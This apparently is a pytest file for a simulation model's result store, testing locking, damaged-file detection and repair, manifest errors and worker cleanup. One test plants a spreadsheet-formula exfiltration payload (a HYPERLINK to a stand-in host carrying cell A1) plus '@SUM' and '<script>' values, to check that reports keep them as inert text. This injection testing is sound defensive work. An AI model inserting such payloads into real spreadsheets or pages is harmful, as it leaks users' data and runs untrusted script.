"""The store under concurrency and damage: one writer at a time, damaged files found, redone
on resume and reported on read, runs.parquet rebuilt, workers ended with their run."""

from __future__ import annotations

import functools
import json
import os
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pandas as pd
import pytest

from model.cli import main
from model.experiment import Experiment, Store, StoreBusy, StoreError, StoreWarning
from model.experiment.testing import fake_run, slow_fake_run

ROOT = Path(__file__).parents[1]
SCENARIOS = ["baseline", "purchase_3yr", "fiscal_squeeze_2024"]
ENV = {**os.environ, "PYTHONPATH": str(ROOT)}

_HOLDER = """
import functools, sys
from model.experiment import Experiment
from model.experiment.testing import slow_fake_run

if __name__ == "__main__":
    exp = Experiment(["baseline", "purchase_3yr", "fiscal_squeeze_2024"], replicates=int(sys.argv[3]), seed=3,
                     region="demo", run_fn=functools.partial(slow_fake_run, seconds=float(sys.argv[4])))
    print(exp.run(sys.argv[1], executor=sys.argv[2], workers=2, chunk_size=1, progress=False))
"""


def _exp(replicates=4, seed=3, run_fn=fake_run):
    return Experiment(SCENARIOS, replicates=replicates, seed=seed, region="demo", run_fn=run_fn)


def _runs(path) -> pd.DataFrame:
    return Store(path).runs().drop(columns="wall_s")


def _start_holder(tmp_path, out, executor="serial", replicates=6, seconds=0.1):
    script = tmp_path / "holder.py"
    script.write_text(textwrap.dedent(_HOLDER))
    proc = subprocess.Popen([sys.executable, str(script), str(out), executor, str(replicates), str(seconds)],
                            env=ENV, start_new_session=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and not list((out / "records").glob("*.json")) if out.exists() else True:
        if proc.poll() is not None or time.monotonic() > deadline:
            break
        time.sleep(0.02)
    assert proc.poll() is None, proc.communicate()
    return proc


# ---- one writer at a time --------------------------------------------------------------------


def test_a_second_run_on_the_same_folder_is_refused_at_once_and_the_store_stays_whole(tmp_path, capsys):
    out = tmp_path / "o"
    holder = _start_holder(tmp_path, out, replicates=6, seconds=0.1)
    slow = functools.partial(slow_fake_run, seconds=0.1)
    same = Experiment(SCENARIOS, replicates=6, seed=3, region="demo", run_fn=slow)
    t0 = time.monotonic()
    with pytest.raises(StoreBusy, match=f"is in use by another wushe run \\(process {holder.pid}, started "):
        same.run(out, executor="serial", progress=False)
    refused_in = time.monotonic() - t0
    # a different experiment started on the same folder is refused too (it never mixes)
    with pytest.raises(StoreError):
        Experiment(SCENARIOS, replicates=6, seed=4, region="demo", run_fn=slow).run(out, executor="serial",
                                                                                    progress=False)
    stdout, stderr = holder.communicate(timeout=120)
    assert holder.returncode == 0, stderr
    assert refused_in < 30  # refused, not waited for: the holder needs far longer than the refusal
    whole = tmp_path / "whole"
    same.run(whole, executor="serial", progress=False)
    pd.testing.assert_frame_equal(_runs(out), _runs(whole), check_exact=True)
    pd.testing.assert_frame_equal(Store(out).timeseries(), Store(whole).timeseries(), check_exact=True)
    manifest = Store(out).manifest
    assert manifest["experiment"]["root_seed"] == 3 and len(manifest["sessions"]) == 1
    assert not (out / ".lock-owner.json").exists()


def test_the_command_line_names_the_folder_and_the_process_holding_it(tmp_path, capsys):
    out = tmp_path / "o"
    argv = ["run", "baseline", "-r", "40", "--region", "demo", "-o", str(out), "--executor", "serial", "-q"]
    holder = subprocess.Popen([sys.executable, "-m", "model.cli", *argv], env=ENV, start_new_session=True,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and not (out / ".lock-owner.json").exists():
            time.sleep(0.02)
        assert main(argv) == 2
        captured = capsys.readouterr()
        assert captured.out == "" and captured.err.count("\n") == 1 and "Traceback" not in captured.err
        assert f"wushe: error: {out} is in use by another wushe run (process {holder.pid}" in captured.err
    finally:
        os.killpg(holder.pid, signal.SIGKILL)
        holder.wait()


def test_a_lock_left_by_a_killed_run_is_taken_over(tmp_path):
    out = tmp_path / "o"
    holder = _start_holder(tmp_path, out, replicates=12, seconds=0.1)
    os.killpg(holder.pid, signal.SIGKILL)
    holder.wait()
    assert (out / ".lock-owner.json").exists()
    slow = functools.partial(slow_fake_run, seconds=0.1)
    report = Experiment(SCENARIOS, replicates=12, seed=3, region="demo", run_fn=slow).run(
        out, executor="serial", progress=False)
    assert report.ok + report.skipped == 36
    assert any(f"took over {out} from process {holder.pid}" in w for w in report.warnings)
    assert not (out / ".lock-owner.json").exists()


def test_a_refused_run_on_a_new_folder_leaves_nothing_behind(tmp_path, monkeypatch):
    from model.experiment import ExecutorError, executors

    monkeypatch.setattr(executors, "SCHEDULER_TIMEOUT", "2s")
    out = tmp_path / "new"
    with pytest.raises(StoreError):
        _exp().run(out / ("x" * 300), executor="serial", progress=False)
    assert not out.exists()
    with pytest.raises(ExecutorError, match="cannot reach a Dask scheduler"):  # refused after taking the lock
        _exp().run(out / "a" / "b", executor="dask", scheduler="tcp://127.0.0.1:9", progress=False)
    assert not out.exists()


# ---- damage ----------------------------------------------------------------------------------


def _damage(out: Path) -> dict[str, str]:
    ts, rec = out / "timeseries", out / "records"
    part = ts / "baseline__r00001.parquet"
    part.write_bytes(part.read_bytes()[: part.stat().st_size // 2])  # truncated
    (ts / "purchase_3yr__r00002.parquet").unlink()  # deleted
    flipped = ts / "fiscal_squeeze_2024__r00000.parquet"
    data = bytearray(flipped.read_bytes())
    data[len(data) // 3] ^= 0xFF  # corrupted, same size
    flipped.write_bytes(bytes(data))
    cut = rec / "baseline__r00003.json"
    cut.write_bytes(cut.read_bytes()[:40])  # truncated record
    altered = rec / "purchase_3yr__r00000.json"
    record = json.loads(altered.read_text())
    record["seed"] += 1  # altered record: its checksum no longer matches
    altered.write_text(json.dumps(record))
    (out / "runs.parquet").unlink()
    return {
        "baseline__r00001": "truncated", "purchase_3yr__r00002": "timeseries missing",
        "fiscal_squeeze_2024__r00000": "corrupted", "baseline__r00003": "record damaged",
        "purchase_3yr__r00000": "record damaged",
    }


def test_damaged_store_files_are_reported_on_read_and_redone_on_resume(tmp_path):
    out, whole = tmp_path / "o", tmp_path / "whole"
    _exp().run(out, executor="serial", progress=False)
    _exp().run(whole, executor="serial", progress=False)
    expected = _damage(out)

    store = Store(out)
    good, damaged = store.verify()
    assert len(good) == 7 and set(damaged) == set(expected)
    for key, what in expected.items():
        assert what in damaged[key], (key, damaged[key])
    with pytest.warns(StoreWarning, match="5 recorded runs cannot be read and are left out"):
        ts = store.timeseries()
    assert ts.groupby(["scenario", "replicate"]).ngroups == 7
    with pytest.warns(StoreWarning):
        runs = store.runs()
    assert len(runs) == 7 and (out / "runs.parquet").is_file()  # rebuilt from the records

    report = _exp().run(out, executor="serial", progress=False)
    assert (report.ok, report.skipped) == (5, 7)
    assert any("5 damaged runs found" in w and "baseline__r00001" in w for w in report.warnings)
    assert Store(out).verify()[1] == {}
    pd.testing.assert_frame_equal(_runs(out), _runs(whole), check_exact=True)
    pd.testing.assert_frame_equal(Store(out).timeseries(), Store(whole).timeseries(), check_exact=True)


def test_runs_parquet_is_rebuilt_when_missing_or_stale(tmp_path):
    out = tmp_path / "o"
    _exp().run(out, executor="serial", progress=False)
    before = _runs(out)
    (out / "runs.parquet").unlink()
    pd.testing.assert_frame_equal(_runs(out), before)
    assert (out / "runs.parquet").is_file()
    stale = pd.read_parquet(out / "runs.parquet").head(3)
    stale.to_parquet(out / "runs.parquet")
    pd.testing.assert_frame_equal(_runs(out), before)
    assert len(pd.read_parquet(out / "runs.parquet")) == 12
    (out / "runs.parquet").write_bytes(b"PAR1 not really")
    pd.testing.assert_frame_equal(_runs(out), before)


@pytest.mark.parametrize("content, message", [
    (b"{ not json", "manifest.json:1: not valid JSON"),
    (b"[1, 2, 3]", "a JSON list; expected an object"),
    (b"\xff\xfe\x00", "not UTF-8 text"),
    (b'{"experiment": 3}', "key experiment or scenarios missing or malformed"),
    (b"[" * 100_000 + b"]" * 100_000, "manifest.json"),
])
def test_a_damaged_manifest_is_one_clear_line(tmp_path, capsys, content, message):
    out = tmp_path / "o"
    _exp(replicates=1).run(out, executor="serial", progress=False)
    (out / "manifest.json").write_bytes(content)
    with pytest.raises(StoreError, match=message.replace("(", "\\(")):
        Store(out).manifest  # noqa: B018
    for argv in (["report", str(out)],
                 ["run", "baseline", "-r", "1", "--region", "demo", "-o", str(out), "--executor", "serial", "-q"]):
        assert main(argv) == 2
        captured = capsys.readouterr()
        assert captured.err.count("\n") == 1 and "manifest.json" in captured.err and "Traceback" not in captured.err
    assert not (out / "report.html").exists()


# ---- a killed store --------------------------------------------------------------------------


HOSTILE_TITLE = '=HYPERLINK("http://example.invalid/?"&A1,"click")'


def test_report_works_on_a_store_whose_run_was_killed_before_runs_parquet_was_written(tmp_path, capsys):
    """Also: a scenario title that is a spreadsheet formula stays text in report.xlsx, the CSVs and the HTML."""
    hostile = tmp_path / "hostile.toml"
    hostile.write_text(
        'name = "hostile"\n'
        f"title = {{ zh = '{HOSTILE_TITLE}', en = '{HOSTILE_TITLE}' }}\n"
        "description = { zh = '@SUM(1)', en = '+1+2 <script>alert(1)</script>' }\n"
        'region = "demo"\ntargets = "demo"\nstart = "2021-01"\nend = "2025-12"\n'
        "[params]\ncontract_years = 3\n[sources]\ncontract_years = 'assumption: test'\n", encoding="utf-8")
    out = tmp_path / "killed"
    argv = ["run", "baseline", str(hostile), "-r", "8", "--region", "demo", "-o", str(out),
            "--executor", "serial", "-q"]
    proc = subprocess.Popen([sys.executable, "-m", "model.cli", *argv], env=ENV, start_new_session=True,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    deadline = time.monotonic() + 90
    while time.monotonic() < deadline and len(list((out / "records").glob("hostile*.json"))) < 2:
        time.sleep(0.02)
    os.killpg(proc.pid, signal.SIGKILL)
    proc.wait()
    assert not (out / "runs.parquet").exists(), "the kill should come before runs.parquet is first written"
    assert main(["report", str(out)]) == 0, capsys.readouterr().err
    assert (out / "report.html").is_file() and (out / "report.xlsx").is_file() and (out / "runs.parquet").is_file()
    assert len(pd.read_parquet(out / "runs.parquet")) == len(list((out / "records").glob("*.json")))

    import openpyxl

    found = 0
    for ws in openpyxl.load_workbook(out / "report.xlsx").worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                found += cell.value == HOSTILE_TITLE
    assert found, "the title should be in the workbook, as text"
    csv_text = "".join(p.read_text(encoding="utf-8-sig") for p in (out / "tables").glob("*.csv"))
    assert "'" + HOSTILE_TITLE.replace('"', '""') in csv_text
    for line in csv_text.splitlines():
        for cell in line.split(","):
            assert not cell.lstrip('"').startswith(("=", "@")), line
    assert "<script>" not in (out / "report.html").read_text(encoding="utf-8")


# ---- worker processes ------------------------------------------------------------------------


def test_local_workers_end_when_the_run_that_started_them_is_killed(tmp_path):
    psutil = pytest.importorskip("psutil")
    out = tmp_path / "o"
    holder = _start_holder(tmp_path, out, executor="local", replicates=40, seconds=0.2)
    children = psutil.Process(holder.pid).children(recursive=True)
    workers = [c for c in children if "loky" not in " ".join(c.cmdline()) or "process_executor" in
               " ".join(c.cmdline())]
    assert workers, [c.cmdline() for c in children]
    os.kill(holder.pid, signal.SIGKILL)  # the run only: its workers are left to notice
    holder.wait()
    gone, alive = psutil.wait_procs(children, timeout=30)
    assert not alive, [p.pid for p in alive]


def _from_pandas_bytes(frame: pd.DataFrame) -> bytes:
    import pyarrow as pa
    import pyarrow.parquet as pq

    sink = pa.BufferOutputStream()
    pq.write_table(pa.Table.from_pandas(frame, preserve_index=False), sink)
    return sink.getvalue().to_pybytes()


def test_parts_are_the_bytes_from_pandas_writes_for_every_frame_of_a_shape_seen_before():
    """The block-wise conversion of later frames (``store._arrow``) writes what ``from_pandas`` writes."""
    import numpy as np

    from model.experiment.store import RunParts, part_bytes

    rng = np.random.default_rng(0)

    def frame(k: int) -> pd.DataFrame:
        n = 7
        out = pd.DataFrame({
            "scenario": [f"s{k}"] * n,
            "replicate": np.int64(k),
            "date": pd.date_range("2020-01-31", periods=n, freq="ME").astype("datetime64[ns]"),
            "x": rng.normal(size=n),
            "count": rng.integers(0, 100, n),
            "ok": rng.random(n) < 0.5,
            "level": pd.Series(["city", "county"] * 3 + ["city"], dtype="str"),
            "note": pd.Series([None, "a", "b", "c", None, "d", "e"], dtype=object),
            "y": rng.normal(size=n),
        })
        out.loc[2, "x"] = np.nan  # missing values as from_pandas writes them (null)
        return out

    for k in range(3):  # the first of a shape goes through from_pandas; the others are converted block-wise
        f = frame(k)
        assert part_bytes(f) == _from_pandas_bytes(f)
        assert RunParts.of(f, f).units == _from_pandas_bytes(f)


def test_a_run_made_into_parts_in_a_worker_writes_what_its_frame_would():
    """The runner sends Parquet bytes back (``RunParts``); they equal what the store makes of the frames."""
    import numpy as np

    from model.experiment.runner import _run_one, _tidy, simulate_scenario
    from model.scenarios import load_scenario
    from model.targets import load_targets

    scenario = load_scenario("purchase_3yr", region="demo")
    targets = load_targets(scenario.targets)
    for replicate, seed in enumerate([11, 12]):  # the second one goes through the block-wise conversion
        record, parts = _run_one(simulate_scenario, scenario, replicate, seed, targets)
        assert record["status"] == "ok", record["error"]
        frame = simulate_scenario(scenario, seed)
        units = frame.attrs.pop("units")
        tidy = _tidy(frame, scenario.name, replicate)  # scenario, replicate, date, the indicators
        units.insert(0, "replicate", np.int64(replicate))
        units.insert(0, "scenario", scenario.name)
        assert parts.timeseries == _from_pandas_bytes(tidy)
        assert parts.units == _from_pandas_bytes(units)


def test_tables_made_from_columns_write_what_their_frames_write():
    """``columns_table``: the first table of a shape from the frame, later ones from the columns alone,
    the same bytes throughout; columns that would not give the frame's table go through the frame."""
    import numpy as np

    from model.experiment.store import columns_table, part_bytes, table_bytes

    rng = np.random.default_rng(1)
    n = 6

    def columns(k: int) -> dict:
        x = rng.normal(size=n)
        x[1] = np.nan  # missing, written as null as from_pandas writes it
        return {"scenario": [f"s{k}"] * n, "replicate": np.full(n, k, np.int64),
                "date": pd.date_range("2021-01-31", periods=n, freq="ME").to_numpy().astype("datetime64[ns]"),
                "x": x, "count": rng.integers(0, 9, n), "ok": rng.random(n) < 0.5,
                "name": ["武汉市", "Wuhan"] * 3}

    for k in range(3):
        cols = columns(k)
        frame = pd.DataFrame(cols)
        assert table_bytes(columns_table(cols, lambda f=frame: f)) == _from_pandas_bytes(frame) == part_bytes(frame)
    for k in range(2):  # columns typed unlike their frame (int64 where the frame has float64): the frame decides
        cols = {"a": np.arange(n, dtype=np.int64) + k, "b": rng.normal(size=n)}
        frame = pd.DataFrame(cols).astype({"a": "float64"})
        assert table_bytes(columns_table(cols, lambda f=frame: f)) == _from_pandas_bytes(frame)
    for k in range(2):  # a column of another kind (text with a gap): the frame decides
        cols = {"a": np.arange(n) + k, "note": ["a", None, "b", "c", "d", "e"]}
        frame = pd.DataFrame(cols)
        assert table_bytes(columns_table(cols, lambda f=frame: f)) == _from_pandas_bytes(frame)


def test_the_model_runs_parts_made_from_its_columns_are_those_of_its_tidied_frames():
    """The runner turns ``simulate_scenario``'s model into parts from its columns, without frames:
    the bytes are ``part_bytes`` of the frames ``simulate_scenario`` returns, tidied, for each run
    (the first of a shape and later ones, another scenario, another replicate) and its units."""
    import numpy as np

    from model.experiment import store
    from model.experiment.runner import _model_output, _simulated, _tidy, simulate_scenario
    from model.experiment.store import part_bytes
    from model.scenarios import load_scenario
    from model.targets import judge, load_targets

    store._SCHEMAS.clear()
    store._PLANS.clear()
    for name, replicate, seed in [("baseline", 0, 21), ("baseline", 1, 22), ("incubator_first", 7, 21)]:
        scenario = load_scenario(name, region="demo")
        targets = load_targets(scenario.targets)
        dates, column, make_parts = _model_output(_simulated(scenario, seed), scenario.name, replicate, targets)
        parts = make_parts()
        frame = simulate_scenario(scenario, seed)
        units = frame.attrs.pop("units")
        tidy = _tidy(frame, scenario.name, replicate)
        units.insert(0, "replicate", np.int64(replicate))
        units.insert(0, "scenario", scenario.name)
        assert parts.timeseries == part_bytes(tidy) == _from_pandas_bytes(tidy)
        assert parts.units == part_bytes(units) == _from_pandas_bytes(units)
        judged = judge(tidy["date"].to_numpy(), lambda c, t=tidy: t[c].to_numpy(), targets)
        assert str(judge(dates, column, targets)) == str(judged)  # (NaN and NaT as text: equal to themselves)
    assert all(schema is not None for schema in store._SCHEMAS.values()) and len(store._SCHEMAS) == 2
